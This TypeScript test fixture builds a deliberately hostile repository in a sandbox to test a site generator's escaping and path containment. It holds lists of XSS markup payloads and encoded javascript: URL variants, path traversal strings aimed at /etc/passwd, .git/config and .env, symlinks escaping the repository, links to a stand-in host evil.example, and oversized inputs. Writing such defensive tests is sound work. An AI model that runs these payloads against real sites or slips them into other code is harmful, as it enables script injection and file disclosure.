import { join } from 'node:path';
import type { Sandbox } from '../sandbox.ts';

/** A script of a record that runs says so here, whatever lets it run. */
export const FLAG = 'pwned';

const RUN = `window.${FLAG}=1;alert(1)`;
/** A site of somebody else: whatever is asked of it has left. */
const OUT = 'https://evil.example';

/** Markup that runs where it is not escaped. */
export const MARKUP: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `"><script>${RUN}</script>`,
  `' autofocus onfocus='${RUN}' x='`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `<iframe srcdoc="<script>parent.${FLAG}=1</script>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=${OUT}">`,
  `<base href="${OUT}/">`,
  `<link rel=stylesheet href="${OUT}/x.css">`,
  `<style>@import "${OUT}/x.css"; body { width: 4000px }</style>`,
  `<form action="${OUT}"><button autofocus>x</button></form>`,
  `<details open ontoggle="${RUN}">`,
  `<object data="${OUT}/x.swf"></object><embed src="${OUT}/y">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `{{constructor.constructor('${RUN}')()}}`,
];

/** Addresses that run, load or lead where they must not. */
export const ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#9;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61vascript&colon;${RUN}`,
  `%6Aavascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  ` javascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+',
  'blob:null/0',
  'file:///etc/passwd',
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `/\\evil.example/x`,
  `https:evil.example`,
  '../../../../../../etc/passwd',
  '/etc/passwd',
  '..%2f..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e/%2e%2e/%2e%2e/etc/passwd',
  '..\\..\\..\\secret.png',
  '....//....//secret.png',
  '../../../secret.png',
  '../../secret.png%00.md',
  '../../.git/config',
  '../../.env.png',
  '../../outside.png',
  '../../inner/outside.png',
  '../../evil.svg',
  '../../evil.html',
];

const UNSEEN = 'a\u202Egnp.exe\u202C b\u200B\u200D\uFEFFc\u2066d\u2069 \u061Cx';
const LONG = 'w'.repeat(5_000);
const MEGABYTE = 'line '.repeat(210_000);
/** What was pasted in: no blank, and no end of a link. */
const PASTED = ['x'.repeat(1_000_000), '[a]('.repeat(50_000), '[a](<'.repeat(50_000)];
/** Names that clash with others, or with a file system. */
const NAMES = ['Ops', 'ops', 'ops-ca70b5', 'con.txt', `a${'𝒜'.repeat(70)}`, '字'.repeat(100), 'a\0b'];

/** Files beside the repository and in it that must never come into a site. */
export const SECRET = 'the secret that stays at home';

const text = (value: string): string => JSON.stringify(value).replaceAll('\u202E', '\\u202E');

/**
 * A repository in which everything that somebody may write is written to do harm: records, names, tags, commits,
 * file names, links and pictures.
 */
export function hostileRepo(box: Sandbox, symlink: (target: string, path: string) => void): string {
  const repo = box.repo('hostile', { commit: false });
  const put = (path: string, content: string): void => box.write(join(repo, path), content);
  const evil = MARKUP.join(' ');
  put(
    '.canon/config.yaml',
    `format: 1\nsite:\n  url: https://offplan.example.com/some/project/\n  title: ${text(`<b>${MARKUP[3]}`)}\n`,
  );
  put(
    '.canon/operators.yaml',
    `roman: { initials: RT, name: ${text(`Roman ${MARKUP[1]} ${UNSEEN}`)}, emails: [roman@example.com] }\nsergei: { initials: SK, name: ${text(MARKUP[4]!)}, emails: [sergei@example.com] }\n`,
  );
  box.write(join(box.dir, 'secret.png'), SECRET);
  put('.env.png', SECRET);
  symlink(join(box.dir, 'secret.png'), join(repo, 'outside.png'));
  symlink(box.dir, join(repo, 'inner'));
  put('evil.svg', `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`);
  put('evil.html', `<script>${RUN}</script>`);
  put('not-a-picture.png', `<script>${RUN}</script>`);
  const links = ADDRESSES.flatMap((at, i) => [
    `- [link ${i}](${at}) and [angle ${i}](<${at}>) and ![picture ${i}](${at}) and ![angle ${i}](<${at}>)`,
    `- [by name ${i}][r${i}] <${at}> [[${at}]] \`${at}\``,
    '',
    `[r${i}]: <${at}> "${MARKUP[i % MARKUP.length]?.replaceAll('"', '\\"')}"`,
    '',
  ]);
  const markup = MARKUP.flatMap((one, i) => [
    one,
    '',
    `## ${one}`,
    '',
    `- [ ] w${i + 1} @roman: ${one}`,
    '',
    `| ${one} | b |\n|:-:|--:|\n| ${one} | \`${one}\` |`,
    '',
    `> [!NOTE] ${one}\n> ${one}`,
    '',
    `\`\`\`${one}\n${one}\n\`\`\``,
    '',
    `[^n${i}]\n\n[^n${i}]: ${one}`,
    '',
  ]);
  const record = (front: Record<string, string>, body: string): string =>
    `---\n${Object.entries(front)
      .map(([key, value]) => `${key}: ${value}`)
      .join('\n')}\n---\n# ${evil}\n\n${body}\n`;
  const tags = `[${[MARKUP[0]!, '../../../etc', '..', '%2e%2e%2f', 'a/b\\c', UNSEEN, 'con', LONG.slice(0, 300), ...NAMES].map(text).join(', ')}]`;
  const session = (n: number, title: string, body: string, more: Record<string, string> = {}): void => {
    const id = `RT-260511-${String(n).padStart(2, '0')}`;
    put(
      `docs/sessions/${id}.md`,
      record(
        {
          title: text(title),
          operator: 'roman',
          summary: text(`${title} ${MARKUP[1]}`),
          plan: 'evil',
          workstream: 'evil',
          tags,
          kind: 'session',
          id,
          status: 'handed-off',
          created: `2026-05-11T${String(8 + (n % 12)).padStart(2, '0')}:00:00+02:00`,
          branch: text(MARKUP[0]!),
          host: text(MARKUP[1]!),
          telemetry: 'complete',
          tool_calls: '3',
          tool_calls_breakdown: `{ ${text(MARKUP[0]!)}: 1, ${text(UNSEEN)}: 1, __proto__: 1 }`,
          ...more,
        },
        body,
      ),
    );
  };
  const sections = (words: string): string =>
    `## Next Action\n\n${words}\n\n## Waiting On\n\n- [ ] w1 @roman: ${words}\n- [ ] w2 @${MARKUP[0]}: ${words}\n\n## Resume Prompt\n\n${words}\n\n`;
  session(1, MARKUP[0]!, sections(MARKUP[0]!) + markup.join('\n'));
  session(2, MARKUP[3]!, sections(MARKUP[1]!) + links.join('\n'));
  session(
    3,
    `${UNSEEN} ${LONG}`,
    `${sections(UNSEEN)}${MEGABYTE}\n\n${LONG}\n\n\`${LONG}\`\n\n\`\`\`\n${LONG}\n\`\`\``,
  );
  session(
    4,
    'Deep',
    `${'>'.repeat(2_000)} deep\n\n${Array.from({ length: 300 }, (_, i) => `${'  '.repeat(i)}- x`).join('\n')}`,
  );
  session(5, 'Wide', wideTable());
  session(6, 'Brackets', `${'['.repeat(20_000)}\n\n${'*a_'.repeat(10_000)}\n\n${'`'.repeat(9_999)}`);
  session(7, 'Pasted', PASTED.join('\n\n'), { operator: 'Roman' });
  session(8, 'Colours', `\`\`\`c\n${`${'a'.repeat(1_990)}\n`.repeat(10)}\`\`\`\n\n`.repeat(30), {
    operator: text(NAMES[4]!),
  });
  for (const name of ['a b', 'a-b-c8687a', 'index.html', 'feed.xml'])
    put(`plans/${name}.md`, record({ title: 'x', owner: text(name), status: 'active', kind: 'plan' }, evil));
  put(
    'workstreams/evil.md',
    record(
      {
        title: text(MARKUP[0]!),
        owner: 'roman',
        status: 'active',
        priority: text(MARKUP[1]!),
        plan: 'evil',
        blocked_by: `[${text(MARKUP[0]!)}, ${text('../../../etc/passwd')}]`,
        summary: text(evil),
        tags,
        kind: 'workstream',
        created: '2026-05-01',
      },
      `## Goal\n\n${evil}\n\n## Tasks\n\n${MARKUP.map((one, i) => `- [ ] P${i}. ${one}`).join('\n')}`,
    ),
  );
  put(
    'plans/evil.md',
    record(
      {
        title: text(MARKUP[5]!),
        owner: text(MARKUP[4]!),
        status: text(MARKUP[0]!),
        summary: text(UNSEEN),
        aliases: `[${text('../../../../tmp/alias')}, ${text(MARKUP[0]!)}, "..", "CON", ${text('a\\..\\..\\b')}]`,
        kind: 'plan',
        created: text(MARKUP[0]!),
      },
      `## Goal\n\n${evil}`,
    ),
  );
  put(
    'docs/decisions/0001-x.md',
    record({ title: text(evil), status: 'accepted', id: text('../../../../tmp/evil-id'), kind: 'adr' }, evil),
  );
  put(`docs/learnings/a"b'<i>&.md`, record({ title: text(evil), status: 'active', kind: 'learning' }, evil));
  put(`docs/learnings/..%2f..%2fup.md`, record({ title: 'up', status: 'active', kind: 'learning' }, evil));
  put(
    `docs/learnings/${'я'.repeat(100)}.md`,
    record({ title: 'long name', status: 'active', kind: 'learning' }, evil),
  );
  put(`docs/sessions/RT-260511-90.md`, `---\ntitle: "${MARKUP[0]}\n---\n${evil}\n${MARKUP.join('\n')}\n`);
  box.git(repo, 'remote', 'add', 'origin', `https://github.com/a/b"><script>${FLAG}=1</script>.git`);
  box.git(repo, 'add', '-A');
  box.git(repo, '-c', `user.name=${MARKUP[1]}`, 'commit', '-qm', `${MARKUP[0]}${UNSEEN}`);
  return repo;
}

const wideTable = (): string => {
  const row = Array.from({ length: 200 }, (_, i) => `column${i}`).join(' | ');
  const line = Array.from({ length: 200 }, () => '---').join('|');
  return `| ${row} |\n|${line}|\n${`| ${row} |\n`.repeat(50)}`;
};
